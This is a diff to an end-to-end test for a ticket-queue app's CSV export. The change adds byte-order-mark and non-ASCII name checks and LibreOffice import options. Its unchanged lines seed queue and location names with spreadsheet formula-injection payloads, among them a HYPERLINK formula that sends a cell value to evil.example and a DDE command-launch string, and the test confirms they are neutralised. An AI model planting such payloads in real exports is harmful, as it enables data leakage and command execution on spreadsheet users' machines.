@@ -24,6 +24,9 @@ const ZONE = 'Europe/Amsterdam'
 const EVIL_QUEUE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 const CMD_QUEUE = "+cmd|' /C calc'!A0"
 const AT_LOCATION = '@SUM(1+1)'
+/** A name outside ASCII: read as Latin-1 (no byte-order mark) it would show as "MalmÃ¶". */
+const UMLAUT_QUEUE = 'Malmö Pass & ID'
+const BOM = [0xef, 0xbb, 0xbf]
 const TIMES = ['createdAt', 'calledAt', 'completedAt', 'cancelledAt', 'skippedAt', 'noShowAt']
 
 /** The standard tickets and two on each side of 29 March 2026's 02:00, when Amsterdam moves to summer time. */
@@ -42,6 +45,7 @@ function organisationWithFormulaNames(server: TestServer): string {
   db.query('UPDATE queues SET name = ? WHERE id = ?').run(EVIL_QUEUE, 'q_pay')
   db.query('UPDATE queues SET name = ? WHERE id = ?').run(CMD_QUEUE, 'q_zh')
   db.query('UPDATE locations SET name = ? WHERE id = ?').run(AT_LOCATION, 'loc_b')
+  db.query('UPDATE queues SET name = ? WHERE id = ?').run(UMLAUT_QUEUE, 'q_id')
   db.close()
   return token
 }
@@ -89,15 +93,24 @@ function sheetRows(fods: string): Cell[][] {
   return rows
 }
 
-/** Opens `csv` with LibreOffice Calc (its CSV import, "Detect special numbers" ticked) and reads it back as cells. */
-async function openInCalc(csv: string): Promise<Cell[][]> {
+/**
+ * The options of LibreOffice's Text Import dialog as it opens on a fresh profile: comma, quote,
+ * the system's character set (UTF-8 here), from row 1, "Detect special numbers" not ticked.
+ * Headless, the options must be given: without any, soffice reads a CSV as Latin-1, mark or not.
+ */
+const CALC_DEFAULTS = '44,34,SYSTEM,1,,0,false,false'
+/** The same with "Detect special numbers" ticked. */
+const CALC_SPECIAL_NUMBERS = '44,34,SYSTEM,1,,0,false,true'
+
+/** Opens the file's bytes with LibreOffice Calc (its CSV import with `options`) and reads it back as cells. */
+async function openInCalc(csv: Uint8Array, options: string): Promise<Cell[][]> {
   const dir = mkdtempSync(join(tmpdir(), 'names-file-'))
   try {
     const file = join(dir, 'tickets.csv')
     writeFileSync(file, csv)
     // A profile of its own: another soffice running on the machine must not take the conversion over.
     const convert = Bun.spawn(
-      [SOFFICE, `-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', '--infilter=CSV:44,34,76,1,,1033,false,true', '--convert-to', 'fods', '--outdir', dir, file],
+      [SOFFICE, `-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=CSV:${options}`, '--convert-to', 'fods', '--outdir', dir, file],
       { stdout: 'pipe', stderr: 'pipe' },
     )
     expect(await convert.exited).toBe(0)
@@ -120,13 +133,18 @@ describe.skipIf(!chromiumAvailable)('the file with names and local times', () =>
 
     // Unticked: the API's export byte for byte.
     const [plain] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
-    expect(readFileSync((await plain.path())!, 'utf8')).toBe(api)
+    const plainBytes = readFileSync((await plain.path())!)
+    expect([...plainBytes.subarray(0, 3)]).not.toEqual(BOM)
+    expect(plainBytes.toString('utf8')).toBe(api)
 
     await page.getByLabel('Add names and local times').check()
     const progress = await recordProgress(page)
     const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
     expect(download.suggestedFilename()).toBe('tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv')
-    const text = readFileSync((await download.path())!, 'utf8')
+    // A UTF-8 byte-order mark first, so that a spreadsheet reads the names as UTF-8; the CSV after it.
+    const bytes = readFileSync((await download.path())!)
+    expect([...bytes.subarray(0, 3)]).toEqual(BOM)
+    const text = bytes.subarray(3).toString('utf8')
     await page.getByText(/Downloaded .*_names_Europe-Amsterdam\.csv: 8 rows .* Names and local times in Europe\/Amsterdam added\./).waitFor()
     // The rows reach the last ticket's creation, 29 March 01:30 UTC, of the range's [from, to).
     const [from, to] = [Date.parse('2026-02-28T23:00:00.000Z'), Date.parse('2026-03-31T22:00:00.000Z')]
@@ -149,12 +167,17 @@ describe.skipIf(!chromiumAvailable)('the file with names and local times', () =>
     // Either side of the change to summer time: 01:30 CET and 03:30 CEST.
     expect(byId.get('t-101')).toMatchObject({ locationName: `'${AT_LOCATION}`, queueName: `'${CMD_QUEUE}`, createdAtLocal: '2026-03-29 01:30:00' })
     expect(byId.get('t-102')!.createdAtLocal).toBe('2026-03-29 03:30:00')
+    expect(byId.get('t-003')!.queueName).toBe(UMLAUT_QUEUE)
 
     // The charts' numbers: the same names, neutralised in their CSV too.
     await page.getByRole('button', { name: 'Charts' }).click()
     await page.getByText(/^Charts drawn from/).waitFor()
     const [numbers] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download these numbers (CSV)' }).nth(1).click()])
-    const numbersCsv = readFileSync((await numbers.path())!, 'utf8')
+    const numbersBytes = readFileSync((await numbers.path())!)
+    expect([...numbersBytes.subarray(0, 3)]).toEqual(BOM)
+    const numbersCsv = numbersBytes.subarray(3).toString('utf8')
+    expect(numbersCsv.startsWith('Location,Queue,')).toBe(true)
+    expect(numbersCsv).toContain(`,${UMLAUT_QUEUE},`)
     expect(numbersCsv).toContain(`Amsterdam Centraal (amsterdam),"'${EVIL_QUEUE.replaceAll('"', '""')}",`)
     expect(numbersCsv).toContain(`'${AT_LOCATION},'${CMD_QUEUE},`)
     expect(numbersCsv.split('\r\n').filter((line) => /(^|,)[=+\-@]/.test(line))).toEqual([])
@@ -163,7 +186,16 @@ describe.skipIf(!chromiumAvailable)('the file with names and local times', () =>
     expect(await page.locator('#charts-section').isVisible()).toBe(true)
 
     if (sofficeAvailable) {
-      const sheet = await openInCalc(text)
+      // The dialog's defaults: the mark is read, not shown; names whole; local times stay text.
+      const plainSheet = await openInCalc(bytes, CALC_DEFAULTS)
+      const plainColumns = plainSheet[0]!.map((cell) => cell.text)
+      expect(plainColumns).toEqual(header)
+      const t003 = plainSheet.find((row) => row[plainColumns.indexOf('id')]!.text === 't-003')!
+      expect(t003[plainColumns.indexOf('queueName')]).toMatchObject({ type: 'string', text: UMLAUT_QUEUE })
+      expect(t003[plainColumns.indexOf('createdAtLocal')]).toMatchObject({ type: 'string', text: local('2026-03-02T10:00:00.000Z') })
+
+      // "Detect special numbers" ticked: the local columns are dates.
+      const sheet = await openInCalc(bytes, CALC_SPECIAL_NUMBERS)
       const columns = sheet[0]!.map((cell) => cell.text)
       const column = (name: string) => columns.indexOf(name)
       expect(sheet).toHaveLength(9)
@@ -197,7 +229,9 @@ describe.skipIf(!chromiumAvailable)('the file with names and local times', () =>
     await page.getByText(/^Saved tickets_.*_names_Europe-Amsterdam\.csv: 8 rows/).waitFor()
     const { dialogs, files } = await pickerRecord(page)
     expect(dialogs.map((dialog) => dialog.suggestedName)).toEqual(['tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv'])
-    const rows = await parseCsv(files['tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv']!)
+    const file = files['tickets_20260228T230000Z_20260331T220000Z_names_Europe-Amsterdam.csv']!
+    expect(file.startsWith('\uFEFFid,')).toBe(true)
+    const rows = await parseCsv(file.slice(1))
     expect(rows.map((row) => [row.id, row.createdAtLocal])).toEqual(tickets().map((ticket) => [ticket.id, local(ticket.createdAt)]).sort((a, b) => a[1]!.localeCompare(b[1]!) || a[0]!.localeCompare(b[0]!)))
     await page.context().close()
   })
